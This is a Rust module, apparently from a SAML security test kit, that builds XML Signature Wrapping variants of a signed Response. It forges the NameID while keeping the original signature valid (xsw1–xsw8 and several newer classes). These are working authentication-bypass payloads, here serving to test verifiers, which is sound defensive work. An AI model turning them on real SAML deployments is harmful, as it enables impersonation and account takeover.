//! Signature wrapping: the signed element stays in the document and keeps its valid signature, while a forged one
//! stands where a careless reader looks (Somorovsky et al., "On Breaking SAML", and later finds).

use crate::TestkitError;

/// One mutated Response.
#[derive(Debug, Clone)]
pub struct Wrapped {
    /// Name of the class, e.g. `xsw3`.
    pub name: &'static str,
    /// The document.
    pub xml: String,
}

/// All wrapping variants of `response`, which must have been built by [`crate::Scene`] without encryption, with the
/// Assertion or the Response signed. In each, `forged` replaces the NameID `honest` in the forged copy.
///
/// # Errors
/// [`TestkitError::Edit`] when `response` lacks a part.
pub fn wrap(response: &str, honest: &str, forged: &str) -> Result<Vec<Wrapped>, TestkitError> {
    let parts = Parts::of(response)?;
    let evil = parts.bare.replace(honest, forged).replacen(" ID=\"", " ID=\"_evil", 1);
    let (open, rest) = evil.split_at(tag_end(&evil)?);
    let (issuer, body) = rest.split_at(after(rest, "</Issuer>")?);
    let close = "</Assertion>";
    let body = body.strip_suffix(close).unwrap_or(body);
    let (honest_assertion, bare, signature) = (parts.assertion, parts.bare.as_str(), parts.signature);
    let response_with = |extra: &str, assertions: &str| {
        format!("{}{extra}{}{assertions}</samlp:Response>", parts.head, parts.status)
    };
    let extensions = |inner: &str| format!("<samlp:Extensions>{inner}</samlp:Extensions>");
    let object =
        |inner: &str| signature.replace("</Signature>", &format!("<Object>{inner}</Object></Signature>"));
    let inside_signature = |inner: &str| signature.replace("</Signature>", &format!("{inner}</Signature>"));
    let mut all = Vec::new();
    let mut add = |name, xml| all.push(Wrapped { name, xml });

    if parts.response_signed {
        let evil_response = response.replace(honest, forged).replacen(" ID=\"", " ID=\"_evil", 1);
        let evil_bare = evil_response.replacen(signature, "", 1);
        let honest_bare = response.replacen(signature, "", 1);
        let mark = after(&evil_bare, "</Issuer>")?;
        let (start, end) = evil_bare.split_at(mark);
        add("xsw1", format!("{start}{}{end}", inside_signature(&honest_bare)));
        add("xsw2", format!("{start}{honest_bare}{signature}{end}"));
        add("response-in-object", format!("{start}{}{end}", object(&honest_bare)));
        add("response-in-extensions", format!("{start}{signature}{}{end}", extensions(&honest_bare)));
        add("response-nested-in-response", format!("{start}{}{end}", extensions(response)));
        return Ok(all);
    }
    add("xsw3", response_with("", &format!("{evil}{honest_assertion}")));
    add("xsw4", response_with("", &format!("{open}{issuer}{body}{honest_assertion}{close}")));
    add("xsw5", response_with("", &format!("{open}{issuer}{signature}{body}{close}{bare}")));
    add("xsw6", response_with("", &format!("{open}{issuer}{}{body}{close}", inside_signature(bare))));
    add("xsw7", response_with(&extensions(honest_assertion), &evil));
    add("xsw8", response_with("", &format!("{open}{issuer}{}{body}{close}", object(bare))));
    add("evil-after-honest", response_with("", &format!("{honest_assertion}{evil}")));
    add(
        "honest-in-advice",
        response_with("", &format!("{open}{issuer}{body}<Advice>{honest_assertion}</Advice>{close}")),
    );
    add(
        "honest-in-attribute-value",
        response_with(
            "",
            &format!(
                "{open}{issuer}{body}<AttributeStatement><Attribute Name=\"a\"><AttributeValue>{honest_assertion}\
                 </AttributeValue></Attribute></AttributeStatement>{close}"
            ),
        ),
    );
    add(
        "honest-in-status-detail",
        format!(
            "{}{}{evil}</samlp:Response>",
            parts.head,
            parts.status.replace(
                "</samlp:Status>",
                &format!("<samlp:StatusDetail>{honest_assertion}</samlp:StatusDetail></samlp:Status>")
            )
        ),
    );
    add("honest-in-extensions-evil-in-place", response_with(&extensions(honest_assertion), &evil));
    add("same-id-twice", response_with("", &format!("{}{honest_assertion}", bare.replace(honest, forged))));
    add("signature-of-honest-on-evil", response_with("", &format!("{open}{issuer}{signature}{body}{close}")));
    add("evil-in-own-namespace-first", {
        let near = evil.replacen("SAML:2.0:assertion", "SAML:2.0:assertion ", 1);
        response_with("", &format!("{near}{honest_assertion}"))
    });
    Ok(all)
}

struct Parts<'r> {
    /// Start tag and Issuer of the Response (and its signature, if it has one).
    head: &'r str,
    status: &'r str,
    assertion: &'r str,
    /// The Assertion without its signature.
    bare: String,
    signature: &'r str,
    response_signed: bool,
}

impl<'r> Parts<'r> {
    fn of(response: &'r str) -> Result<Self, TestkitError> {
        let status_at = find(response, "<samlp:Status>")?;
        let status_end = after(response, "</samlp:Status>")?;
        let assertion_at = find(response, "<Assertion ")?;
        let assertion_end = after(response, "</Assertion>")?;
        let signature_at = find(response, "<Signature ")?;
        let signature_end = after(response, "</Signature>")?;
        let cut = |from: usize, to: usize| {
            response.get(from..to).ok_or_else(|| TestkitError::Edit("parts in order".to_owned()))
        };
        let assertion = cut(assertion_at, assertion_end)?;
        let signature = cut(signature_at, signature_end)?;
        Ok(Self {
            head: cut(0, status_at)?,
            status: cut(status_at, status_end)?,
            assertion,
            bare: assertion.replacen(signature, "", 1),
            signature,
            response_signed: signature_at < status_at,
        })
    }
}

fn find(subject: &str, what: &str) -> Result<usize, TestkitError> {
    subject.find(what).ok_or_else(|| TestkitError::Edit(what.to_owned()))
}

fn after(subject: &str, what: &str) -> Result<usize, TestkitError> {
    Ok(find(subject, what)? + what.len())
}

fn tag_end(subject: &str) -> Result<usize, TestkitError> {
    after(subject, ">")
}
